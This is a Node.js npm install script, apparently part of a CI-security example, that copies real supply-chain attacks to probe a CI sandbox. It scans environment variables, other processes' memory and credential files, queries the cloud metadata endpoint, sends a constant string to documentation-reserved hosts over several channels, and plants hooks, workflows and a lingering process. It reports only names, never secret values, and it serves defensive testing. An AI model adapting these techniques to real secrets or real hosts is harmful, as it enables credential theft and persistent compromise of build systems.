// An install script that tries what the install scripts of real attacks did. It is harmless by construction:
// - it runs only where CI=true, as much real malware does, so that an `npm ci` at your desk does nothing;
// - it sends one constant string, and only to names and addresses reserved for documentation and testing
//   (RFC 2606, RFC 5737, RFC 3849) and to the metadata address; nothing that it reads leaves this process;
// - it prints how many secrets it found and their names, never a value;
// - a file that it manages to write outside the project is removed at once; what it plants in the project does nothing.
// It never fails the install: real malware does not want to be noticed.
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const LOOT = 'a-constant-string-and-nothing-else';
const PATIENCE_MS = 1_500;
const SECRET_NAME = /TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|_KEY$|^AWS_|^ACTIONS_/i;
/**
 * How tokens look in memory: what the attack on tj-actions/changed-files searched the runner's memory for, and two more.
 * Written so that it does not find its own text where npm still holds it.
 */
const SECRET_BYTES = /"isSecret"[:]true|gh[pousr]_[A-Za-z0-9]{36}|npm_[A-Za-z0-9]{36}/g;

const project = process.env.INIT_CWD ?? path.resolve('..', '..');

function readEnvironment() {
  const names = Object.keys(process.env).filter((name) => SECRET_NAME.test(name) && process.env[name] !== '');
  return names.length === 0 ? 'no token, secret or key in it' : `FOUND ${names.join(', ')}`;
}

/** The start of each writable part of a process's memory, up to 64 MiB in all. */
function* memoryOf(pid) {
  const handle = fs.openSync(`/proc/${pid}/mem`, 'r');
  let left = 64 * 2 ** 20;
  try {
    for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
      const [, start, end] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (start === undefined || left <= 0) continue;
      const from = BigInt(`0x${start}`);
      const bytes = Buffer.alloc(Math.min(Number(BigInt(`0x${end}`) - from), 4 * 2 ** 20, left));
      left -= bytes.length;
      try {
        yield bytes.subarray(0, fs.readSync(handle, bytes, 0, bytes.length, from)).toString('latin1');
      } catch {
        // A part that cannot be read is skipped.
      }
    }
  } finally {
    fs.closeSync(handle);
  }
}

const otherProcesses = () => {
  const own = new Set([String(process.pid), 'self', 'thread-self']);
  return fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && !own.has(name));
};

function readOtherEnvironments() {
  let readable = 0;
  const found = new Set();
  const pids = otherProcesses();
  for (const pid of pids) {
    try {
      for (const entry of fs.readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0')) {
        const name = entry.split('=', 1)[0];
        if (SECRET_NAME.test(name) && entry.length > name.length + 1) found.add(name);
      }
      readable += 1;
    } catch {
      // Not ours to read.
    }
  }
  const seen = `read ${readable} of ${pids.length}`;
  return `${seen}; ${found.size === 0 ? 'no token in them' : `FOUND ${[...found].join(', ')}`}`;
}

function readOtherMemories() {
  let readable = 0;
  let found = 0;
  const stop = Date.now() + 700;
  const pids = otherProcesses();
  const isRunner = (pid) => {
    try {
      return fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('Runner.Worker');
    } catch {
      return false;
    }
  };
  const runner = pids.some(isRunner) ? 'FOUND a runner process' : 'no runner process';
  for (const pid of pids) {
    if (Date.now() > stop) break;
    try {
      for (const text of memoryOf(pid)) found += text.match(SECRET_BYTES)?.length ?? 0;
      readable += 1;
    } catch {
      // Not ours to read.
    }
  }
  return `${runner}; read ${readable} of ${pids.length}; ${found === 0 ? 'no token in them' : `FOUND ${found} of them`}`;
}

function readCredentials() {
  const homes = new Set([os.homedir(), '/root', '/home/runner']);
  const names = [
    '.npmrc',
    '.netrc',
    '.git-credentials',
    '.ssh/id_ed25519',
    '.ssh/id_rsa',
    '.aws/credentials',
    '.config/gh/hosts.yml',
    '.config/gcloud/application_default_credentials.json',
    '.docker/config.json',
    '.kube/config',
  ];
  const found = [...homes]
    .flatMap((home) => names.map((name) => path.join(home, name)))
    .filter((file) => {
      try {
        return fs.readFileSync(file).length > 0;
      } catch {
        return false;
      }
    });
  return found.length === 0 ? 'none there' : `FOUND ${found.join(', ')}`;
}

function writeOutside(directory) {
  const file = path.join(directory, `moon-phase-${process.pid}`);
  fs.writeFileSync(file, LOOT, { flag: 'wx' });
  fs.unlinkSync(file);
  return 'WRITTEN (and removed again)';
}

function plant(root, file, text, mode) {
  if (!fs.existsSync(path.join(project, root))) return `no ${root} folder here`;
  const target = path.join(project, root, file);
  fs.mkdirSync(path.dirname(target), { recursive: true });
  fs.writeFileSync(target, text, { flag: 'wx', mode });
  return 'WRITTEN';
}

async function metadata() {
  const url = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  const answer = await fetch(url, { signal: AbortSignal.timeout(PATIENCE_MS) });
  await answer.body?.cancel();
  return answer.ok ? `ANSWERED with status ${answer.status}` : `refused with status ${answer.status}`;
}

async function https() {
  const answer = await fetch('https://collector.test/', {
    method: 'POST',
    body: LOOT,
    signal: AbortSignal.timeout(PATIENCE_MS),
  });
  return `SENT, status ${answer.status}`;
}

/** Sends over a plain connection; one that opens and is then reset, or never answers, has not delivered. */
function connection(host, port) {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port });
    let opened = false;
    const done = (result) => {
      socket.destroy();
      resolve(result);
    };
    socket.setTimeout(PATIENCE_MS, () => done(opened ? 'SENT, no answer' : 'no answer'));
    socket.once('connect', () => {
      opened = true;
      socket.write(LOOT);
    });
    socket.once('data', () => done('SENT, and answered'));
    socket.once('end', () => done('closed at once by the other side'));
    socket.once('error', reject);
  });
}

async function nameLabels() {
  const resolver = new Resolver({ timeout: PATIENCE_MS, tries: 1 });
  await resolver.resolve4(`${Buffer.from(LOOT.slice(0, 24)).toString('hex')}.collector.test`);
  return 'SENT, and answered';
}

/** To the DNS port of a server of the attacker's own, past the machine's resolver. */
function datagram(host, port) {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    const timer = setTimeout(() => done(resolve, 'sent to the kernel, no answer'), 500);
    const done = (settle, value) => {
      clearTimeout(timer);
      socket.removeAllListeners().close();
      settle(value);
    };
    socket.once('error', (error) => done(reject, error));
    socket.once('message', () => done(resolve, 'SENT, and answered'));
    socket.send(LOOT, port, host, (error) => {
      if (error) done(reject, error);
    });
  });
}

function containerSocket(socketPath) {
  return new Promise((resolve, reject) => {
    const request = http.get({ socketPath, path: '/version', timeout: PATIENCE_MS }, (answer) => {
      answer.resume();
      resolve(`ANSWERED with status ${answer.statusCode}`);
    });
    request.once('timeout', () => request.destroy(new Error('no answer')));
    request.once('error', reject);
  });
}

function leaveBehind() {
  const script = fileURLToPath(new URL('./later.js', import.meta.url));
  const child = spawn(process.execPath, [script], { detached: true, stdio: 'ignore' });
  return new Promise((resolve, reject) => {
    child.once('error', reject);
    child.once('spawn', () => {
      child.unref();
      resolve(`STARTED as process ${child.pid}; it tries again when this step is over`);
    });
  });
}

const HOOK = '#!/bin/sh\n# Planted by examples/fork-pr. It does nothing.\n';
const WORKFLOW = `# Planted by examples/fork-pr. It does nothing.
name: moon
on: workflow_dispatch
jobs:
  moon:
    runs-on: ubuntu-latest
    steps:
      - run: 'true'
`;

const ATTEMPTS = [
  ['read the environment', readEnvironment],
  ['read the environments of other processes', readOtherEnvironments],
  ['read the memory of other processes', readOtherMemories],
  ['read credentials in home folders', readCredentials],
  ['ask the metadata address 169.254.169.254', metadata],
  ['send by HTTPS to collector.test', https],
  ['send to the address 198.51.100.7:443', () => connection('198.51.100.7', 443)],
  ['send by IPv6 to [2001:db8::7]:443', () => connection('2001:db8::7', 443)],
  ['send in the labels of a DNS name', nameLabels],
  ['send by UDP to 198.51.100.7:53', () => datagram('198.51.100.7', 53)],
  ['reach the container socket', () => containerSocket('/var/run/docker.sock')],
  ['write to /etc', () => writeOutside('/etc')],
  ['write to /usr/bin', () => writeOutside('/usr/bin')],
  ['write above the workspace', () => writeOutside(path.resolve(project, '..', '..'))],
  ['plant a git hook', () => plant('.git', 'hooks/post-checkout', HOOK, 0o755)],
  ['plant a workflow', () => plant('.github', 'workflows/moon.yml', WORKFLOW, 0o644)],
  ['leave a process behind', leaveBehind],
];

async function attempt([name, action]) {
  try {
    return `attempt: ${name} -> ${await action()}`;
  } catch (error) {
    const cause = error.cause ?? error;
    return `attempt: ${name} -> failed: ${cause.code ?? cause.name ?? cause.message}`;
  }
}

if (process.env.CI === 'true') {
  for (const line of await Promise.all(ATTEMPTS.map(attempt))) console.log(line);
}
process.exit(0);
